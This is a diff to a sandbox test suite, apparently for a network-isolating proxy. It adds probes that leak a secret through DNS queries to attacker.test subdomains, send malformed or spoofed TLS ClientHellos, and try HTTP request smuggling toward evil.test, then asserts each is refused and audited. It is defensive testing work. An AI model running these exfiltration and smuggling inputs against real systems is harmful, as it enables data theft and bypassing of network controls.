@@ -698,6 +698,10 @@ attempt("gai6", socket.getaddrinfo, S + "-h.attacker.test", 443)
 attempt("udp", dns_query, S + "-u.attacker.test", 16)
 attempt("tcp", dns_query, S + "-v.attacker.test", 1, True)
 attempt("aaaa", dns_query, S + "-w.attacker.test", 28)
+# an allowed name beside the secret in one message: refused, nothing answered
+attempt("multi", dns_query, "web.test", 1, False, ("127.0.0.1", 53), 3, (S + "-m.attacker.test",))
+# a label added in front of an allowed exact name
+attempt("sub", dns_query, S + ".web.test")
 for a in ADDRS:
     if ":" not in a:
         attempt("direct " + a, dns_query, S + "-z.attacker.test", 1, False, (a, U), 2)
@@ -705,7 +709,7 @@ for a in ADDRS:
     );
     py_failed(&r, "gai", &["gaierror"]);
     py_failed(&r, "gai6", &["gaierror"]);
-    for k in ["udp", "tcp", "aaaa"] {
+    for k in ["udp", "tcp", "aaaa", "multi", "sub"] {
         let v = py_ok(&r, k);
         assert_eq!(
             (v["rcode"].as_u64(), v["answers"].as_u64()),
@@ -983,6 +987,15 @@ attempt("tr ok", lambda: tls_get("front.test", T, "front.test", CA, "/n7/tr-ok",
 attempt("tr other", lambda: tls_get("front.test", T, "other.test", CA, "/n7/tr-other", False, resolve4("front.test")[0]))
 attempt("tr also", lambda: tls_get("front.test", T, "also.test", CA, "/n7/tr-also", False, resolve4("front.test")[0]))
 attempt("tr no sni", lambda: tls_get("front.test", T, None, None, "/n7/tr-nosni", False, resolve4("front.test")[0]))
+# hand-made ClientHellos: the name in a second record, odd name types, other messages
+FT = "front.test:%d" % T
+attempt("split other", tunnel_bytes, FT, records(client_hello(["other.test"]), 60))
+attempt("split front", tunnel_bytes, FT, records(client_hello(["front.test"]), 60))
+attempt("name type 1", tunnel_bytes, FT, records(client_hello(["front.test"], name_type=1)))
+attempt("two names other first", tunnel_bytes, FT, records(client_hello(["other.test", "front.test"])))
+attempt("not a hello", tunnel_bytes, FT, records(client_hello(["front.test"], hs_type=2)))
+attempt("huge hello", tunnel_bytes, FT, records(client_hello(["front.test"], pad=30000, suites=20000)))
+attempt("nul in name", tunnel_bytes, FT, records(client_hello(["front.test\x00.other.test"])))
 "#),
     );
     for ok in ["ok", "ok case", "tr ok"] {
@@ -1009,8 +1022,31 @@ attempt("tr no sni", lambda: tls_get("front.test", T, None, None, "/n7/tr-nosni"
     );
     assert!(!plain.contains("tls-hello"), "{plain}");
 
-    // The server saw exactly the allowed handshakes: two from the shell, three from Python.
-    assert_eq!(tls.conns(), 5, "{:?}", tls.requests());
+    for refused in [
+        "split other",
+        "name type 1",
+        "two names other first",
+        "not a hello",
+        "huge hello",
+        "nul in name",
+    ] {
+        let v = py_ok(&r, refused).as_str().unwrap();
+        assert_eq!(
+            v, "HTTP/1.1 200 Connection established | ",
+            "{refused}: bytes came back through a refused tunnel"
+        );
+    }
+    // A split hello naming the tunnel's host is joined and passed on (the
+    // server then rejects the made-up handshake).
+    let v = py_ok(&r, "split front").as_str().unwrap();
+    assert!(
+        v.starts_with("HTTP/1.1 200 Connection established | 15"),
+        "{v}"
+    );
+
+    // The server saw exactly the allowed handshakes: two from the shell, three
+    // from Python's ssl, one made by hand.
+    assert_eq!(tls.conns(), 6, "{:?}", tls.requests());
     let mut paths: Vec<String> = tls.requests().into_iter().map(|r| r.1).collect();
     paths.sort();
     assert_eq!(paths, ["/n7/ok", "/n7/py-case", "/n7/py-ok", "/n7/tr-ok"]);
@@ -1030,6 +1066,7 @@ attempt("tr no sni", lambda: tls_get("front.test", T, None, None, "/n7/tr-nosni"
     audit.assert_denied("connect", "front.test", "does not carry TLS");
     audit.assert_denied("transparent-tls", "front.test", "names \"other.test\"");
     audit.assert_denied("transparent-tls", "front.test", "names no server");
+    audit.assert_denied("connect", "front.test", "unreadable TLS ClientHello");
 }
 
 // ---------------------------------------------------------------------------
@@ -1083,6 +1120,19 @@ for name, (data, _) in CASES.items():
 R["expected"] = {"ok": True, "value": {k: v[1] for k, v in CASES.items()}}
 # a valid request followed by a pipelined one for another host: only the first goes out
 attempt("pipelined", raw, "GET http://%s/first HTTP/1.1\r\nHost: %s\r\nX-M: %s\r\n\r\nGET http://evil.test:%d/second HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (A, A, M, P, P))
+# the same shapes on the transparent path (the stub's address for up.test)
+TR = (resolve4("up.test")[0], P)
+TCASES = {
+    "tr_cl_te": ("POST /s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % A, 400),
+    "tr_host_twice": ("GET /s HTTP/1.1\r\nHost: %s\r\nHost: evil.test\r\n\r\n" % A, 400),
+    "tr_host_other": ("GET /s HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % P, 400),
+    "tr_absolute_other": ("GET http://evil.test:%d/s HTTP/1.1\r\nHost: %s\r\n\r\n" % (P, A), 400),
+    "tr_big_head": ("GET /s HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\n\r\n" % (A, "a" * 20000), 431),
+    "tr_te_xchunked": ("POST /s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: xchunked\r\n\r\n" % A, 400),
+}
+for name, (data, _) in TCASES.items():
+    attempt(name, raw, data, TR)
+    R["expected"]["value"][name] = TCASES[name][1]
 # a body that looks like a second request is only ever a body
 attempt("body_smuggle", raw, "POST http://%s/body HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\n\r\nhelloGET http://evil.test:%d/smuggled HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (A, A, P, P))
 "#;
@@ -1182,18 +1232,30 @@ for p in WELL_KNOWN:
     attempt("well-known " + p, unix_connect, p)
 R["exists"] = {"ok": True, "value": [p for p in WELL_KNOWN + PATHS if os.path.lexists(p)]}
 def visible_sockets():
-    found = []
-    for root, dirs, files in os.walk("/", onerror=lambda e: None):
-        if root == "/" and "proc" in dirs:
-            dirs.remove("proc")
-        for f in files:
-            p = os.path.join(root, f)
-            try:
-                if __import__("stat").S_ISSOCK(os.lstat(p).st_mode):
-                    found.append(p)
-            except OSError:
-                pass
+    # Every socket file outside /proc and /sys (the kernel's own views).
+    import stat
+    found, todo = [], ["/"]
+    while todo:
+        d = todo.pop()
+        try:
+            entries = list(os.scandir(d))
+        except OSError:
+            continue
+        for e in entries:
+            if e.path in ("/proc", "/sys"):
+                continue
+            if e.is_dir(follow_symlinks=False):
+                todo.append(e.path)
+            elif not e.is_file(follow_symlinks=False) and not e.is_symlink():
+                try:
+                    if stat.S_ISSOCK(os.lstat(e.path).st_mode):
+                        found.append(e.path)
+                except OSError:
+                    pass
     return found
+# a socket of the sandbox's own shows the walk finds sockets
+own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+own.bind("/tmp/n9-own.sock")
 R["socket files"] = {"ok": True, "value": visible_sockets()}
 # /run holds moat's init program and nothing of the host's
 R["run"] = {"ok": True, "value": sorted(os.path.join(r, f) for r, d, fs in os.walk("/run") for f in fs + d)}
@@ -1216,7 +1278,14 @@ with open("/proc/net/unix") as f:
             "/run inside: {run:?}"
         );
         let files = py_ok(&r, "socket files").as_array().unwrap().clone();
-        assert!(files.is_empty(), "socket files inside: {files:?}");
+        // (bwrap also shows the lease's /tmp at /dev/shm)
+        assert!(
+            files.contains(&"/tmp/n9-own.sock".into())
+                && files
+                    .iter()
+                    .all(|f| f == "/tmp/n9-own.sock" || f == "/dev/shm/n9-own.sock"),
+            "socket files inside: {files:?}"
+        );
         let unix = py_ok(&r, "proc net unix").as_str().unwrap().to_string();
         assert!(
             !unix.contains(&tag) && !unix.contains("docker") && !unix.contains("dbus"),
